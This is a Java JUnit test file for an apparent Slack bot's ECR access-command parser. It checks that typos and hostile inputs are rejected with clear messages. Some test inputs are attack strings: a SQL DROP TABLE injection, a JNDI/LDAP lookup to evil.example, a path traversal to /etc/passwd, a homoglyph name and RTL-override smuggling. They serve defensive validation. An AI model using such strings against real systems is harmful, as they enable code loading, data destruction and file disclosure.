package dev.ecrbot.command;

import static dev.ecrbot.problem.Code.ACCESS_UNKNOWN;
import static dev.ecrbot.problem.Code.ACCOUNT_UNKNOWN;
import static dev.ecrbot.problem.Code.COMMAND_MALFORMED;
import static dev.ecrbot.problem.Code.COMMAND_UNKNOWN;
import static dev.ecrbot.problem.Code.DURATION_MALFORMED;
import static dev.ecrbot.problem.Code.PARTITION_MISMATCH;
import static dev.ecrbot.problem.Code.PRINCIPAL_MALFORMED;
import static dev.ecrbot.problem.Code.REPOSITORY_MALFORMED;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import dev.ecrbot.ecr.StandardAccess;
import dev.ecrbot.problem.Code;
import dev.ecrbot.problem.Problem;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What people type by mistake, in haste or in bad faith, beside what they are told. */
class SillyInputsTest {
    private static final String GRANT = "grant pull payments/api ";

    @ParameterizedTest
    @MethodSource({"commands", "accesses", "repositories", "accounts", "principals", "ends", "reasons"})
    void areToldWhatIsWrong(String typed, Code code, String said) {
        Problem problem = Here.misunderstood(Here.PARSER, typed);
        assertThat(problem.text()).contains(said);
        assertThat(problem.code()).as(problem.text()).isEqualTo(code);
        assertThat(problem.text()).hasSizeLessThan(600).doesNotContainPattern("\\p{Cntrl}|\u202E|\u200B");
    }

    static Stream<Arguments> commands() {
        return Stream.of(
                arguments("grnat pull payments/api sales", COMMAND_UNKNOWN, "Did you mean “grant”?"),
                arguments("revok all payments/api sales", COMMAND_UNKNOWN, "Did you mean “revoke”?"),
                arguments("request", COMMAND_UNKNOWN, "Did you mean “requests”?"),
                arguments("allow pull payments/api sales", COMMAND_UNKNOWN, "Did you mean “grant”?"),
                arguments("delete payments/api", COMMAND_UNKNOWN, "Did you mean “revoke”?"),
                arguments("pull payments/api sales", COMMAND_UNKNOWN, "Did you mean “grant pull”?"),
                arguments("approve 7K3F-92QD", COMMAND_UNKNOWN, "buttons on their card"),
                arguments("please", COMMAND_UNKNOWN, "The commands are grant, revoke"),
                arguments("<!channel>", COMMAND_UNKNOWN, "“@channel”"),
                arguments("🎉", COMMAND_UNKNOWN, "“🎉”"),
                arguments("'; DROP TABLE requests; --", COMMAND_UNKNOWN, "The commands are"),
                arguments("${jndi:ldap://evil.example/a}", COMMAND_UNKNOWN, "The commands are"),
                arguments("z".repeat(3999), COMMAND_UNKNOWN, "“" + "z".repeat(60) + "…”"),
                arguments("z".repeat(5000), COMMAND_MALFORMED, "has 5000 characters"),
                arguments("grant", COMMAND_MALFORMED, "The access"),
                arguments("grant because", COMMAND_MALFORMED, "no reason"),
                arguments("grant because I want to", COMMAND_MALFORMED, "The access"),
                arguments("grant pull", COMMAND_MALFORMED, "The repository is missing"),
                arguments("grant pull payments/api", COMMAND_MALFORMED, "The account"),
                arguments("grant pull payments/api for 7d", COMMAND_MALFORMED, "is missing"),
                arguments("revoke", COMMAND_MALFORMED, "push-only or all"),
                arguments("revoke all payments/api", COMMAND_MALFORMED, "/ecr revoke"),
                arguments("revoke pull payments/api sales for 7d", COMMAND_MALFORMED, "A revocation has no end"),
                arguments("revoke pull payments/api sales until 2026-12-31", COMMAND_MALFORMED, "“until”"),
                arguments(GRANT + "sales ci-deployer nightly build", COMMAND_MALFORMED, "“nightly build”"),
                arguments(GRANT + "sales ci-deployer nightly build", COMMAND_MALFORMED, "put “because” before it"),
                arguments("status", COMMAND_MALFORMED, "The repository is missing"),
                arguments("login", COMMAND_MALFORMED, "/ecr login payments/api"),
                arguments("requests some", COMMAND_MALFORMED, "mine, pending, for me, ending, all"),
                arguments("requests page two", COMMAND_MALFORMED, "page 2"),
                arguments("show payments/api", COMMAND_MALFORMED, "/ecr history"),
                arguments("who", COMMAND_MALFORMED, "access"),
                arguments("who pull", COMMAND_MALFORMED, "The repository is missing"),
                arguments("can sales", COMMAND_MALFORMED, "The access"),
                arguments("can sales ci-deployer all payments/api", ACCESS_UNKNOWN, "pull, push"),
                arguments("login payments/api for dokcer", COMMAND_MALFORMED, "Did you mean “docker”?"),
                arguments("login 999999999999.dkr.ecr.us-west-2.amazonaws.com", REPOSITORY_MALFORMED, "central"),
                arguments("whoami rita", COMMAND_MALFORMED, "doesn't take"),
                arguments("doctor who", COMMAND_MALFORMED, "doesn't take"),
                arguments("requests pendign", COMMAND_MALFORMED, "Did you mean “pending”?"),
                arguments("cancel", COMMAND_MALFORMED, "The request's id is missing"),
                arguments("extend", COMMAND_MALFORMED, "The request's id is missing"),
                arguments("extend payments/api for 7d", COMMAND_MALFORMED, "letters, digits and dashes"),
                arguments("extend req-7k2m9xqa 30d", COMMAND_MALFORMED, "“extend” doesn't take “30d”"),
                arguments("extend req-7k2m9xqa for 7", DURATION_MALFORMED, "no unit"),
                arguments("extend req-7k2m9xqa until 2020-01-01", DURATION_MALFORMED, "in the past"),
                arguments("renew req-7k2m9xqa", COMMAND_UNKNOWN, "Did you mean “extend”?"),
                arguments("undo", COMMAND_MALFORMED, "The request's id is missing"),
                arguments("undo payments/api", COMMAND_MALFORMED, "letters, digits and dashes"),
                arguments("undo req-7k2m9xqa wrong role", COMMAND_MALFORMED, "put “because” before it"),
                arguments("undo req-7k2m9xqa for 7d", COMMAND_MALFORMED, "no end of its own, so it can't take “for”"),
                arguments("undo req-7k2m9xqa until 2026-12-31 because", COMMAND_MALFORMED, "can't take “until”"),
                arguments("revert req-7k2m9xqa", COMMAND_UNKNOWN, "Did you mean “undo”?"),
                arguments("udno req-7k2m9xqa", COMMAND_UNKNOWN, "Did you mean “undo”?"),
                arguments("end", COMMAND_MALFORMED, "The request's id is missing"),
                arguments("end payments/api", COMMAND_MALFORMED, "letters, digits and dashes"),
                arguments("cancel #12", COMMAND_MALFORMED, "letters, digits and dashes"),
                arguments("cancel 1 2", COMMAND_MALFORMED, "doesn't take “2”"),
                arguments("help grnt", COMMAND_UNKNOWN, "Did you mean “grant”?"),
                arguments("help grant pull", COMMAND_MALFORMED, "doesn't take “pull”"));
    }

    static Stream<Arguments> accesses() {
        return Stream.of(
                arguments("grant pul payments/api sales", ACCESS_UNKNOWN, "Did you mean “pull”?"),
                arguments("grant push_only payments/api sales", ACCESS_UNKNOWN, "Did you mean “push-only”?"),
                arguments("grant write payments/api sales", ACCESS_UNKNOWN, "Did you mean “push”? It includes pull."),
                arguments("grant pull,push payments/api sales", ACCESS_UNKNOWN, "Did you mean “push”?"),
                arguments("grant all payments/api sales", ACCESS_UNKNOWN, "“all” can't be granted"),
                arguments("grant * payments/api sales", ACCESS_UNKNOWN, "“*” can't be granted"),
                arguments("grant ecr:* payments/api sales", ACCESS_UNKNOWN, "can't be granted"),
                arguments("grant ecr:SetRepositoryPolicy payments/api sales", ACCESS_UNKNOWN, "isn't a kind of access"),
                arguments("grant payments/api pull sales", ACCESS_UNKNOWN, "right after the command"),
                arguments(
                        "revoke everything payments/api sales", ACCESS_UNKNOWN, "pull, push, read, push-only or all"));
    }

    static Stream<Arguments> repositories() {
        return Stream.of(
                arguments("status Payments/API", REPOSITORY_MALFORMED, "Did you mean “payments/api”?"),
                arguments("status /payments/api/", REPOSITORY_MALFORMED, "Did you mean “payments/api”?"),
                arguments("status a", REPOSITORY_MALFORMED, "2 to 256 characters"),
                arguments("status payments//api", REPOSITORY_MALFORMED, "can't be a repository's name"),
                arguments("status ../../etc/passwd", REPOSITORY_MALFORMED, "can't be a repository's name"),
                arguments("status раyments/api", REPOSITORY_MALFORMED, "can't be a repository's name"),
                arguments("status central:", REPOSITORY_MALFORMED, "name is missing"),
                arguments("status :payments/api", REPOSITORY_MALFORMED, "There is no registry"),
                arguments("status centrl:payments/api", REPOSITORY_MALFORMED, "Did you mean “central”?"),
                arguments("status mars:payments/api", REPOSITORY_MALFORMED, "The only registry is central."),
                arguments("status api:latest", REPOSITORY_MALFORMED, "leave out the tag"),
                arguments("status central/us-west2:payments/api", REPOSITORY_MALFORMED, "Did you mean “us-west-2”?"),
                arguments("status central/us-east-1:api", REPOSITORY_MALFORMED, "no Region “us-east-1”"),
                arguments("status mars/us-west-2:payments/api", REPOSITORY_MALFORMED, "There is no registry “mars”"),
                arguments(
                        "status 999999999999.dkr.ecr.us-west-2.amazonaws.com/payments/api",
                        REPOSITORY_MALFORMED,
                        "999999999999, which isn't a registry here"),
                arguments(
                        "status 111111111111.dkr.ecr.ap-south-1.amazonaws.com/payments/api",
                        REPOSITORY_MALFORMED,
                        "no Region “ap-south-1”"),
                arguments(
                        "status 111111111111.dkr.ecr.us-west-2.amazonaws.com.evil.example/api",
                        REPOSITORY_MALFORMED,
                        "isn't an image URI"),
                arguments(
                        "status 111111111111.dkr.ecr.us-west-2.amazonaws.com",
                        REPOSITORY_MALFORMED,
                        "isn't an image URI"),
                arguments("status https://example.com/payments/api", REPOSITORY_MALFORMED, "web address"),
                arguments("status public.ecr.aws/nginx/nginx", REPOSITORY_MALFORMED, "public gallery"),
                arguments("status arn:aws:s3:::payments", REPOSITORY_MALFORMED, "service “s3”"),
                arguments("status arn:aws:ecr", REPOSITORY_MALFORMED, "isn't a whole ARN"),
                arguments(
                        "status arn:aws:ecr:us-west-2:111111111111:payments/api",
                        REPOSITORY_MALFORMED,
                        "isn't the ARN of a repository"),
                arguments(
                        "status arn:aws:ecr:us-west-2:111111111111:repository/payments//*",
                        REPOSITORY_MALFORMED,
                        "Did you mean “payments/*”?"),
                arguments(
                        "status arn:aws:ecr:us-west-2:111111111111:repository/payments/a?i",
                        REPOSITORY_MALFORMED,
                        "isn't a wildcard"),
                arguments("status **", REPOSITORY_MALFORMED, "Did you mean “*”?"),
                arguments("status payments/**", REPOSITORY_MALFORMED, "Did you mean “payments/*”?"),
                arguments("status /payments/*", REPOSITORY_MALFORMED, "Did you mean “payments/*”?"),
                arguments("status Payments/*", REPOSITORY_MALFORMED, "Did you mean “payments/*”?"),
                arguments("status *.", REPOSITORY_MALFORMED, "can't be a pattern"),
                arguments("status p?", REPOSITORY_MALFORMED, "question mark"),
                arguments("status p?/*", REPOSITORY_MALFORMED, "can't be a pattern"),
                arguments("status payments/[ab]*", REPOSITORY_MALFORMED, "can't be a pattern"),
                arguments("status mars:payments/*", REPOSITORY_MALFORMED, "There is no registry"),
                arguments("login payments/*", REPOSITORY_MALFORMED, "takes one repository"),
                arguments(
                        "status arn:aws:ecr:moon-1:111111111111:repository/api",
                        REPOSITORY_MALFORMED,
                        "“moon-1” in the ARN isn't a Region"),
                arguments(
                        "status arn:aws-cn:ecr:us-west-2:111111111111:repository/api",
                        REPOSITORY_MALFORMED,
                        "us-west-2 is in aws"),
                arguments(
                        "status arn:aws:ecr:us-west-2:1111:repository/api",
                        REPOSITORY_MALFORMED,
                        "isn't an account id"));
    }

    static Stream<Arguments> accounts() {
        return Stream.of(
                arguments(GRANT + "saels", ACCOUNT_UNKNOWN, "Did you mean “sales”?"),
                arguments(GRANT + "marketing", ACCOUNT_UNKNOWN, "sales, finance"),
                arguments(GRANT + "22222222222", ACCOUNT_UNKNOWN, "11 digits, not 12"),
                arguments(GRANT + "2222222222222", ACCOUNT_UNKNOWN, "13 digits, not 12"),
                arguments(GRANT + "222-222-222-222", ACCOUNT_UNKNOWN, "isn't an account id"),
                arguments(GRANT + "٢٢٢٢٢٢٢٢٢٢٢٢", ACCOUNT_UNKNOWN, "There is no account"),
                arguments(GRANT + "-1", ACCOUNT_UNKNOWN, "1 digit, not 12"),
                arguments(GRANT + "<@U12345|bob>", ACCOUNT_UNKNOWN, "“@bob” is somebody or something in Slack"),
                arguments(GRANT + "<!channel>", ACCOUNT_UNKNOWN, "in Slack"),
                arguments(GRANT + "&lt;account&gt;", ACCOUNT_UNKNOWN, "There is no account"),
                arguments(GRANT + "role/ci-deployer", ACCOUNT_UNKNOWN, "The account is missing before"),
                arguments(GRANT + "to sales", ACCOUNT_UNKNOWN, "There is no account “to”"),
                arguments("revoke all payments/api saels", ACCOUNT_UNKNOWN, "Did you mean “sales”?"),
                arguments("revoke all payments/api 2222", ACCOUNT_UNKNOWN, "4 digits, not 12"));
    }

    static Stream<Arguments> principals() {
        return Stream.of(
                arguments(GRANT + "sales <!channel>", PRINCIPAL_MALFORMED, "“@channel” is somebody in Slack"),
                arguments(GRANT + "sales <@U0AMIR|amir>", PRINCIPAL_MALFORMED, "somebody in Slack, and not a role"),
                arguments(
                        GRANT + "sales AROAQ3EGRXYZABCDEFGHI", PRINCIPAL_MALFORMED, "the id that AWS keeps of a role"),
                arguments(
                        GRANT + "sales AIDAQ3EGRXYZABCDEFGHI", PRINCIPAL_MALFORMED, "the id that AWS keeps of a user"),
                arguments(GRANT + "sales AKIAIOSFODNN7EXAMPLE", PRINCIPAL_MALFORMED, "the id of an access key"),
                arguments(GRANT + "sales \"ci-deployer,nightly\"", PRINCIPAL_MALFORMED, "Ask for each role by itself"),
                arguments(GRANT + "*", PRINCIPAL_MALFORMED, "wildcard"),
                arguments(GRANT + "sales *", PRINCIPAL_MALFORMED, "wildcard"),
                arguments(GRANT + "sales ci-*", PRINCIPAL_MALFORMED, "wildcard"),
                arguments(GRANT + "AROAEXAMPLE1234567890", PRINCIPAL_MALFORMED, "most likely a deleted one"),
                arguments(GRANT + "lambda.amazonaws.com", PRINCIPAL_MALFORMED, "is a service"),
                arguments(GRANT + "sales group/admins", PRINCIPAL_MALFORMED, "not groups"),
                arguments(GRANT + "arn:aws:iam::222222222222:group/admins", PRINCIPAL_MALFORMED, "not groups"),
                arguments(GRANT + "sales instance-profile/web", PRINCIPAL_MALFORMED, "the role in it can"),
                arguments(GRANT + "arn:aws:iam::aws:policy/ReadOnlyAccess", PRINCIPAL_MALFORMED, "A policy can't"),
                arguments(
                        GRANT + "arn:aws:iam::222222222222:saml-provider/corp",
                        PRINCIPAL_MALFORMED,
                        "identity provider"),
                arguments(GRANT + "arn:aws:iam::222222222222:role/*", PRINCIPAL_MALFORMED, "wildcard"),
                arguments(GRANT + "arn:aws:iam::*:role/ci-deployer", PRINCIPAL_MALFORMED, "no account id"),
                arguments(
                        GRANT + "arn:aws:iam::222222222222:",
                        PRINCIPAL_MALFORMED,
                        "isn't a role, a user or an account"),
                arguments(GRANT + "arn:aws:iam::222222222222:role/", PRINCIPAL_MALFORMED, "name is missing"),
                arguments(GRANT + "arn:aws:iam::222222222222:root/x", PRINCIPAL_MALFORMED, "Write root alone"),
                arguments(
                        GRANT + "arn:aws:iam:us-west-2:222222222222:role/ci",
                        PRINCIPAL_MALFORMED,
                        "has a Region in it"),
                arguments(GRANT + "arn:aws:iam", PRINCIPAL_MALFORMED, "isn't a whole ARN"),
                arguments(
                        GRANT + "arn:aws:lambda:us-west-2:222222222222:function:f:prod",
                        PRINCIPAL_MALFORMED,
                        "a version or an alias can't stand"),
                arguments(
                        GRANT + "arn:aws-cn:lambda:cn-north-1:222222222222:function:f",
                        PARTITION_MISMATCH,
                        "in partition aws-cn"),
                arguments(GRANT + "lambda:", PRINCIPAL_MALFORMED, "The account is missing"),
                arguments(GRANT + "lambda:/f", PRINCIPAL_MALFORMED, "The account is missing"),
                arguments(GRANT + "lambda:saels", ACCOUNT_UNKNOWN, "Did you mean “sales”?"),
                arguments(GRANT + "lambda:sales/", PRINCIPAL_MALFORMED, "can't be the name of functions"),
                arguments(GRANT + "lambda:sales/f:1", PRINCIPAL_MALFORMED, "“f:1” can't be the name of functions"),
                arguments(GRANT + "lambda:sales ci", COMMAND_MALFORMED, "one word too many"),
                arguments(GRANT + "org:", PRINCIPAL_MALFORMED, "There is no organization “”"),
                arguments(GRANT + "org:acne", PRINCIPAL_MALFORMED, "Did you mean “acme”?"),
                arguments(GRANT + "org:o-1", PRINCIPAL_MALFORMED, "There is no organization “o-1”"),
                arguments(GRANT + "org:*", PRINCIPAL_MALFORMED, "There is no organization “*”"),
                arguments(GRANT + "org:acme/ou-ab12-11111111", PRINCIPAL_MALFORMED, "all the ids from the root down"),
                arguments(GRANT + "org:acme/r-ab12/ou-ab12-11111111/*", PRINCIPAL_MALFORMED, "isn't a unit"),
                arguments(GRANT + "org:acme/r-ab12/ou-zz99-11111111", PRINCIPAL_MALFORMED, "isn't a unit"),
                arguments(GRANT + "acme ci-deployer", COMMAND_MALFORMED, "one word too many"),
                arguments(GRANT + "arn:aws:s3:::bucket", PRINCIPAL_MALFORMED, "service “s3”"),
                arguments(GRANT + "arn:mars:iam::222222222222:role/ci", PRINCIPAL_MALFORMED, "isn't a partition"),
                arguments(GRANT + "arn:aws:sts::222222222222:role/ci", PRINCIPAL_MALFORMED, "mixes iam and sts"),
                arguments(
                        GRANT + "arn:aws:iam::222222222222:assumed-role/ci/x1",
                        PRINCIPAL_MALFORMED,
                        "mixes iam and sts"),
                arguments(GRANT + "arn:aws:sts::222222222222:assumed-role/ci", PRINCIPAL_MALFORMED, "isn't a session"),
                arguments(
                        GRANT + "arn:aws:sts::222222222222:federated-user/a/b",
                        PRINCIPAL_MALFORMED,
                        "isn't a federated user"),
                arguments(
                        GRANT + "arn:aws-cn:iam::222222222222:role/ci",
                        PARTITION_MISMATCH,
                        "the repository is in aws;"),
                arguments(
                        GRANT + "arn:aws-us-gov:iam::222222222222:root", PARTITION_MISMATCH, "can't cross partitions"),
                arguments(
                        GRANT + "sales arn:aws:iam::333333333333:role/ci",
                        PRINCIPAL_MALFORMED,
                        "isn't in account 222222222222"),
                arguments(GRANT + "arn:aws:iam::222222222222:role/ci ci", COMMAND_MALFORMED, "one word too many"),
                arguments(GRANT + "sales user/", PRINCIPAL_MALFORMED, "name is missing"),
                arguments(GRANT + "sales ci//deployer", PRINCIPAL_MALFORMED, "can't be a role's path"),
                arguments(GRANT + "sales ci!deployer", PRINCIPAL_MALFORMED, "can't be a role's name"),
                arguments(GRANT + "sales rôle", PRINCIPAL_MALFORMED, "can't be a role's name"),
                arguments(GRANT + "sales " + "r".repeat(65), PRINCIPAL_MALFORMED, "1 to 64"),
                arguments(GRANT + "sales " + "p/".repeat(300) + "r", PRINCIPAL_MALFORMED, "at most 512"));
    }

    static Stream<Arguments> ends() {
        return Stream.of(
                arguments(GRANT + "sales for", DURATION_MALFORMED, "no duration after “for”"),
                arguments(GRANT + "sales for because x", DURATION_MALFORMED, "no duration after “for”"),
                arguments(GRANT + "sales for 0d", DURATION_MALFORMED, "zero"),
                arguments(GRANT + "sales for -7d", DURATION_MALFORMED, "negative"),
                arguments(GRANT + "sales for –7d", DURATION_MALFORMED, "negative"),
                arguments(GRANT + "sales for 1.5d", DURATION_MALFORMED, "Write 36h, not 1.5d"),
                arguments(GRANT + "sales for 1/2 day", DURATION_MALFORMED, "fraction"),
                arguments(GRANT + "sales for 7", DURATION_MALFORMED, "“7” has no unit"),
                arguments(GRANT + "sales for 7 because x", DURATION_MALFORMED, "“7” has no unit"),
                arguments(GRANT + "sales for 7 parsecs", DURATION_MALFORMED, "“parsecs” isn't a unit of time"),
                arguments(GRANT + "sales for 3M", DURATION_MALFORMED, "minutes or months"),
                arguments(GRANT + "sales for 3 months", DURATION_MALFORMED, "not all of one length"),
                arguments(GRANT + "sales for 1y", DURATION_MALFORMED, "until 2026-12-31"),
                arguments(GRANT + "sales for 30s", DURATION_MALFORMED, "Seconds are too short"),
                arguments(GRANT + "sales for 4000d", DURATION_MALFORMED, "more than 10 years"),
                arguments(GRANT + "sales for 999999w", DURATION_MALFORMED, "more than 10 years"),
                arguments(GRANT + "sales for 99999999999999999999d", DURATION_MALFORMED, "more than 10 years"),
                arguments(GRANT + "sales for ever", DURATION_MALFORMED, "Leave it out"),
                arguments(GRANT + "sales for nightly build", DURATION_MALFORMED, "put “because” before it"),
                arguments(GRANT + "sales for ∞", DURATION_MALFORMED, "isn't a duration"),
                arguments(GRANT + "sales for 7d for 8d", DURATION_MALFORMED, "gave the end twice"),
                arguments(GRANT + "sales for 7d until 2026-12-31", DURATION_MALFORMED, "gave the end twice"),
                arguments(GRANT + "sales until", DURATION_MALFORMED, "no date after “until”"),
                arguments(GRANT + "sales until tomorrow", DURATION_MALFORMED, "“tomorrow” isn't a date"),
                arguments(GRANT + "sales until 31.12.2026", DURATION_MALFORMED, "until 2026-12-31"),
                arguments(GRANT + "sales until 2026-13-45", DURATION_MALFORMED, "isn't in the calendar"),
                arguments(GRANT + "sales until 2026-02-30", DURATION_MALFORMED, "isn't in the calendar"),
                arguments(GRANT + "sales until 2026-12-31 25:00", DURATION_MALFORMED, "isn't in the calendar"),
                arguments(GRANT + "sales until 2026-12-31 6pm", DURATION_MALFORMED, "“6pm” isn't a time of day"),
                arguments(GRANT + "sales until 2026-12-31 18:00 CET", DURATION_MALFORMED, "“CET” isn't a time zone"),
                arguments(GRANT + "sales until 2026-12-31T18:00+99:00", DURATION_MALFORMED, "isn't in the calendar"),
                arguments(GRANT + "sales until 2020-01-01", DURATION_MALFORMED, "in the past"),
                arguments(GRANT + "sales until 2026-05-31", DURATION_MALFORMED, "in the past"),
                arguments(GRANT + "sales until 2026-06-01 12:00", DURATION_MALFORMED, "in the past"),
                arguments(GRANT + "sales until 9999-12-31", DURATION_MALFORMED, "more than 10 years"));
    }

    static Stream<Arguments> reasons() {
        return Stream.of(
                arguments(GRANT + "sales because", COMMAND_MALFORMED, "no reason after “because”"),
                arguments(GRANT + "sales because \u200B\n", COMMAND_MALFORMED, "no reason after “because”"),
                arguments(GRANT + "sales because " + "x".repeat(301), COMMAND_MALFORMED, "has 301 characters"),
                arguments("gr\u202Ean\u200Bt pull payments/api saels", COMMAND_MALFORMED, "RIGHT-TO-LEFT OVERRIDE"),
                arguments("grant\u0000pull\u0007payments/api\u001Bsaels", COMMAND_MALFORMED, "U+0000, NULL"));
    }

    @Test
    void arePlenty() {
        assertThat(Stream.of(commands(), accesses(), repositories(), accounts(), principals(), ends(), reasons())
                        .mapToLong(Stream::count)
                        .sum())
                .isGreaterThan(150);
    }

    @Test
    void areToldWhenNothingIsConfigured() {
        var parser = new CommandParser(new Names(Map.of(), Map.of(), StandardAccess.CATALOGUE), Here.CLOCK);
        assertThat(Here.misunderstood(parser, "status payments/api").what()).isEqualTo("No registry is configured.");
        assertThat(Here.misunderstood(parser, "status arn:aws:ecr:us-west-2:111111111111:repository/api")
                        .code())
                .isEqualTo(REPOSITORY_MALFORMED);
    }
}
